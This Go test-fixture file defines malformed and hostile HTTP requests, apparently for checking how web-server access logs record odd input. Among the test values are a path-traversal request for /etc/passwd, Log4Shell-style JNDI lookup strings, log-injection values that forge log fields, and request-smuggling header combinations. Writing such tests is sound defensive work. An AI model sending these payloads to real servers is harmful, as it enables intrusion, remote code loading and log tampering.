package weblogs

import (
	"encoding/base64"
	"strings"
)

// exchange is the data that one client sends over one connection.
type exchange struct {
	name  string
	raw   string
	asks  []ask // its requests, in order
	final bool  // the client signals that it will send no more
	slow  bool  // the client leaves once the backend has received the request
}

// ask is one request as the client meant it, or as it must be stored if it is not a
// valid request. Texts are the bytes sent; "" means absent.
type ask struct {
	method, path, host            string
	userAgent, referer, forwarded string
	user                          string // of Authorization: Basic
	malformed                     bool   // a server may refuse it before it has read the header
	peer                          string // its source address
	listed                        string // stands for X-Forwarded-For in logs without another place for it
}

const (
	browser = "ShopApp/4.2.0 (Android 16)"
	shop    = "shop.example"
	closing = "Connection: close\r\n\r\n"
)

// get returns an ordinary request with lines added to its header.
func get(target string, lines ...string) string {
	return "GET " + target + " HTTP/1.1\r\nHost: " + shop + "\r\n" + strings.Join(append(lines, ""), "\r\n") + closing
}

func basic(credentials string) string {
	return "Authorization: Basic " + base64.StdEncoding.EncodeToString([]byte(credentials))
}

func one(name, raw string, a ask) exchange { return exchange{name: name, raw: raw, asks: []ask{a}} }

// fine returns a request that is ordinary except for its path.
func fine(path string) ask { return ask{method: "GET", path: path, host: shop} }

func (a ask) with(change func(*ask)) ask { change(&a); return a }

func withPath(name, path string) exchange { return one(name, get(path), fine(path)) }

func withUserAgent(name, text string) exchange {
	return one(name, get("/ua", "User-Agent: "+text), fine("/ua").with(func(a *ask) { a.userAgent = text }))
}

func withReferer(name, text string) exchange {
	return one(name, get("/referer", "Referer: "+text), fine("/referer").with(func(a *ask) { a.referer = text }))
}

func withForwarded(name, want string, lines ...string) exchange {
	return one(name, get("/forwarded", lines...), fine("/forwarded").with(func(a *ask) { a.forwarded = want }))
}

func withUser(name, credentials, user string) exchange {
	return one(name, get("/user", basic(credentials)), fine("/user").with(func(a *ask) { a.user = user }))
}

// refused returns a request that servers may refuse before they have read all of it.
func refused(name, raw string, a ask) exchange {
	a.malformed = true
	return one(name, raw, a)
}

// cutOff returns a request, or part of one, that nothing follows.
func cutOff(name, raw string, a ask) exchange {
	x := refused(name, raw, a)
	x.final = true
	return x
}

// garbage returns data that is not a request: all of it is stored as the path.
func garbage(name, line string) exchange {
	return cutOff(name, line+"\r\n\r\n", ask{path: line})
}

func exchanges() []exchange {
	all := append(targets(), lines()...)
	all = append(all, headers()...)
	all = append(all, users()...)
	return append(all, connections()...)
}

// targets returns requests with awkward targets.
func targets() []exchange {
	return []exchange{
		one("an ordinary request",
			"GET /v1/orders/17?page=2 HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: "+browser+"\r\nReferer: https://shop.example/\r\nX-Forwarded-For: 203.0.113.7\r\n"+closing,
			ask{method: "GET", path: "/v1/orders/17?page=2", host: shop, userAgent: browser, referer: "https://shop.example/", forwarded: "203.0.113.7"}),
		withPath("escapes in the path and in the query", "/a%20b/%2e%2e/c%2Fd?q=%22x%22&r=%5C&s=%00"),
		withPath("double slashes and dots", "//a///b/../c/./d"),
		refused("a climb out of the root", get("/%2e%2e/..%2f..%2fetc/passwd"), fine("/%2e%2e/..%2f..%2fetc/passwd")),
		withPath("a query of queries", "/?a=/x?b=http://y/?c"),
		withPath("JNDI", "/?x=${jndi:ldap://203.0.113.9/a}"),
		withPath("quotes and backslashes", `/a"b\c\"d\x22e\\`),
		withPath("what looks like the end of the request", `/a"%20200%201%20"-"`),
		withPath("UTF-8", "/café/Žluťoučký?q=日本"),
		withPath("bytes that are not UTF-8", "/\xff\xfe/\xc3("),
		withPath("seven kilobytes", "/"+strings.Repeat("seven/", 1170)),
		refused("nine kilobytes", get("/"+strings.Repeat("nine/", 1840)), fine("/"+strings.Repeat("nine/", 1840))),
		refused("a fragment", get("/a#b"), fine("/a#b")),
		refused("control characters", get("/a\x1b[31mb\x01"), fine("/a\x1b[31mb\x01")),
		refused("a tab", get("/a\tb"), fine("/a\tb")),
		refused("a NUL", get("/a\x00b"), fine("/a\x00b")),
		refused("DEL", get("/a\x7fb"), fine("/a\x7fb")),
		refused("a blank", get("/a b"), fine("/a b")),
		refused("an escape that is none", get("/a%zz%"), fine("/a%zz%")),
		refused("a query and no path", get("?x=1"), fine("?x=1")),
		refused("a word", get("word"), fine("word")),
		one("a URI in absolute form", "GET http://api.example/v1?x HTTP/1.1\r\nHost: shop.example\r\n"+closing,
			ask{method: "GET", path: "http://api.example/v1?x", host: "api.example"}),
		refused("a URI with a user", "GET http://ann:secret@api.example/v1 HTTP/1.1\r\nHost: api.example\r\n"+closing,
			ask{method: "GET", path: "http://ann:secret@api.example/v1", host: "api.example"}),
		refused("a URI of another scheme", "GET ftp://api.example/v1 HTTP/1.1\r\nHost: api.example\r\n"+closing,
			ask{method: "GET", path: "ftp://api.example/v1", host: "api.example"}),
		refused("CONNECT", "CONNECT mail.example:25 HTTP/1.1\r\nHost: mail.example:25\r\n"+closing,
			ask{method: "CONNECT", path: "mail.example:25", host: "mail.example:25"}),
		refused("OPTIONS of everything", "OPTIONS * HTTP/1.1\r\nHost: shop.example\r\n"+closing,
			ask{method: "OPTIONS", path: "*", host: shop}),
	}
}

// lines returns awkward request lines.
func lines() []exchange {
	return []exchange{
		one("HEAD", "HEAD /head HTTP/1.1\r\nHost: shop.example\r\n"+closing, ask{method: "HEAD", path: "/head", host: shop}),
		one("POST with a body", "POST /v1/login HTTP/1.1\r\nHost: shop.example\r\nContent-Length: 17\r\n"+closing+`{"name":"a\"b\\"}`,
			ask{method: "POST", path: "/v1/login", host: shop}),
		one("a body in chunks", "PUT /chunks HTTP/1.1\r\nHost: shop.example\r\nTransfer-Encoding: chunked\r\n"+closing+"3\r\nabc\r\n0\r\n\r\n",
			ask{method: "PUT", path: "/chunks", host: shop}),
		one("an unknown method", "FROBNICATE /x HTTP/1.1\r\nHost: shop.example\r\n"+closing, ask{method: "FROBNICATE", path: "/x", host: shop}),
		refused("a method with a hyphen", "M-SEARCH /x HTTP/1.1\r\nHost: shop.example\r\n"+closing, ask{method: "M-SEARCH", path: "/x", host: shop}),
		refused("a method in lower case", "get /lower HTTP/1.1\r\nHost: shop.example\r\n"+closing, ask{method: "get", path: "/lower", host: shop}),
		refused("a method with digits and dots", "G.3T /x HTTP/1.1\r\nHost: shop.example\r\n"+closing, ask{method: "G.3T", path: "/x", host: shop}),
		one("HTTP/1.0 without a host", "GET /ten HTTP/1.0\r\n\r\n", ask{method: "GET", path: "/ten"}),
		cutOff("HTTP/0.9", "GET /nine\r\n", ask{method: "GET", path: "/nine"}),
		refused("HTTP/1.7", "GET /v HTTP/1.7\r\nHost: shop.example\r\n"+closing, ask{method: "GET", path: "/v", host: shop}),
		refused("HTTP/9.9", "GET /v HTTP/9.9\r\nHost: shop.example\r\n"+closing, ask{method: "GET", path: "/v", host: shop}),
		refused("RTSP", "OPTIONS / RTSP/1.0\r\n\r\n", ask{method: "OPTIONS", path: "/ RTSP/1.0"}),
		refused("several blanks", "GET   /blanks   HTTP/1.1\r\nHost: shop.example\r\n"+closing, ask{method: "GET", path: "/blanks", host: shop}),
		one("bare line feeds", "GET /lf HTTP/1.1\nHost: shop.example\nConnection: close\n\n", ask{method: "GET", path: "/lf", host: shop, malformed: true}),
		one("empty lines in front", "\r\n\r\nGET /late HTTP/1.1\r\nHost: shop.example\r\n"+closing, ask{method: "GET", path: "/late", host: shop, malformed: true}),
		garbage("a TLS hello", "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\"\\\xd1\x89\x7f\x1f\xe2\x04 \x0e\x01"),
		garbage("an SSH client", "SSH-2.0-OpenSSH_9.6"),
		garbage("an SMB client", "\x00\x00\x00\x85\xffSMBr\x00\x00\x00\x00\x18S\xc8"),
		garbage("a quote", "\""),
		cutOff("a minus", "-\r\n\r\n", ask{}), // logs write an absent value like this
		cutOff("the preface of HTTP/2", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x00\x04\x00\x00\x00\x00\x00", ask{method: "PRI", path: "*"}),
	}
}

// headers returns awkward headers.
func headers() []exchange {
	long := strings.Repeat("long ", 500)
	return []exchange{
		withUserAgent("a user agent with quotes", `say "hi" \o/ \x22 \" \`),
		withUserAgent("a user agent of JNDI", "${jndi:ldap://203.0.113.9/a}"),
		withUserAgent("a user agent that would be the rest of the line", `x" "203.0.113.9`),
		withUserAgent("a user agent that would be JSON", `","status":"200","remote_addr":"203.0.113.9`),
		withUserAgent("a user agent of 2,500 bytes", strings.TrimSpace(long)),
		withUserAgent("a user agent with a tab", "a\tb"),
		withUserAgent("a user agent in Unicode", "агент 🙂 \u202eevil\ufeff"),
		withUserAgent("a user agent of escapes", `\u0000 \ud800 \n \t %22 &quot;`),
		withUserAgent("a user agent that is not UTF-8", "x\xc3(\xff"),
		one("a minus for a user agent", get("/ua", "User-Agent: -"), fine("/ua")),
		withUserAgent("an empty user agent", ""),
		refused("a user agent with control characters", get("/ua", "User-Agent: \x1b[2J\x07x"), fine("/ua").with(func(a *ask) { a.userAgent = "\x1b[2J\x07x" })),
		refused("a user agent with DEL", get("/ua", "User-Agent: a\x7fb"), fine("/ua").with(func(a *ask) { a.userAgent = "a\x7fb" })),
		withReferer("a referer with quotes", `https://shop.example/"\"?q='\`),
		withReferer("a referer of 2,500 bytes", "https://shop.example/"+strings.Repeat("long/", 500)),
		withForwarded("a list of proxies", "203.0.113.7, 198.51.100.2,192.0.2.9", "X-Forwarded-For: 203.0.113.7, 198.51.100.2,192.0.2.9"),
		withForwarded("a list with rubbish", `unknown, "x", [::1]:80, \, 203.0.113.7`, `X-Forwarded-For: unknown, "x", [::1]:80, \, 203.0.113.7`),
		withForwarded("lists in two headers", "203.0.113.7, 198.51.100.2, 192.0.2.9", "X-Forwarded-For: 203.0.113.7, 198.51.100.2", "x-forwarded-for: 192.0.2.9"),
		one("another virtual host", "GET /vh HTTP/1.1\r\nHost: api.example\r\n"+closing, ask{method: "GET", path: "/vh", host: "api.example"}),
		one("a host in capitals with a port", "GET /vh HTTP/1.1\r\nHost: API.Example:8080\r\n"+closing, ask{method: "GET", path: "/vh", host: "API.Example:8080"}),
		one("a host that is an IPv6 address", "GET /vh HTTP/1.1\r\nHost: [2001:db8::1]:80\r\n"+closing, ask{method: "GET", path: "/vh", host: "[2001:db8::1]:80"}),
		refused("no host", "GET /nohost HTTP/1.1\r\n"+closing, ask{method: "GET", path: "/nohost"}),
		refused("a host that is none", "GET /badhost HTTP/1.1\r\nHost: a/b\\c\r\n"+closing, ask{method: "GET", path: "/badhost", host: "a/b\\c"}),
		refused("two hosts", "GET /twohosts HTTP/1.1\r\nHost: shop.example\r\nHost: api.example\r\n"+closing, ask{method: "GET", path: "/twohosts", host: shop}),
		refused("a header of 100 kilobytes", get("/huge", "X-Huge: "+strings.Repeat("x", 100_000)), fine("/huge")),
		refused("a header of 200 lines", get("/many", strings.Split(strings.Repeat("X-Line: 1,", 199)+"X-Line: 1", ",")...), fine("/many")),
		refused("a header line without a colon", get("/nocolon", "nonsense"), fine("/nocolon")),
		refused("a blank before the colon", get("/colon", "X-Blank : 1"), fine("/colon")),
		refused("a folded header", get("/fold", "X-Fold: a", " b"), fine("/fold")),
		one("a client that expects to be told to go on", "POST /expect HTTP/1.1\r\nHost: shop.example\r\nContent-Length: 2\r\nExpect: 100-continue\r\n"+closing+"ab",
			ask{method: "POST", path: "/expect", host: shop}),
	}
}

// users returns requests with user names that nobody verifies.
func users() []exchange {
	return []exchange{
		withUser("a user", "ann:secret", "ann"),
		withUser("a user with blanks and brackets", "ann [b] (c):x", "ann [b] (c)"),
		withUser("a user with quotes", `a"n\n:x`, `a"n\n`),
		withUser("a user in UTF-8", "žofie:x", "žofie"),
		withUser("a user that is not UTF-8", "a\xffb:x", "a\xffb"),
		withUser("a user that would be a log line", `x [01/Jan/2000:00:00:00 +0000] "GET / HTTP/1.1" 200 1 "-" "-"`+":x",
			`x [01/Jan/2000`),
		withUser("a user without a name", ":x", ""),
		withUser("a user named minus", "-:x", ""),
		one("credentials that are not base64", get("/user", "Authorization: Basic !!!"), fine("/user")),
	}
}

// connections returns awkward uses of connections.
func connections() []exchange {
	plain := "GET /p1 HTTP/1.1\r\nHost: shop.example\r\n\r\n"
	return []exchange{
		{name: "nothing at all", final: true},
		{name: "three at once",
			raw:  plain + "HEAD /p2 HTTP/1.1\r\nHost: api.example\r\nUser-Agent: two\r\n\r\n" + get("/p3"),
			asks: []ask{fine("/p1"), {method: "HEAD", path: "/p2", host: "api.example", userAgent: "two"}, fine("/p3")}},
		cutOff("half a request line", "GET /half", ask{method: "GET", path: "/half"}),
		cutOff("half a header", "GET /halfhead HTTP/1.1\r\nHost: shop.example\r\nUser-", fine("/halfhead")),
		cutOff("half a body", "POST /halfbody HTTP/1.1\r\nHost: shop.example\r\nContent-Length: 100\r\n\r\nhalf",
			ask{method: "POST", path: "/halfbody", host: shop}),
		{name: "a client that does not wait", raw: "GET /slow HTTP/1.1\r\nHost: shop.example\r\n\r\n", slow: true, asks: []ask{fine("/slow")}},
		refused("a length that is none", "POST /length HTTP/1.1\r\nHost: shop.example\r\nContent-Length: 1x\r\n"+closing, ask{method: "POST", path: "/length", host: shop}),
		refused("two lengths", "POST /length HTTP/1.1\r\nHost: shop.example\r\nContent-Length: 1\r\nContent-Length: 2\r\n"+closing+"a", ask{method: "POST", path: "/length", host: shop}),
		refused("length and chunks", "POST /both HTTP/1.1\r\nHost: shop.example\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n"+closing+"0\r\n\r\n", ask{method: "POST", path: "/both", host: shop}),
		refused("a chunk that is none", "POST /chunk HTTP/1.1\r\nHost: shop.example\r\nTransfer-Encoding: chunked\r\n"+closing+"zz\r\n\r\n", ask{method: "POST", path: "/chunk", host: shop}),
	}
}
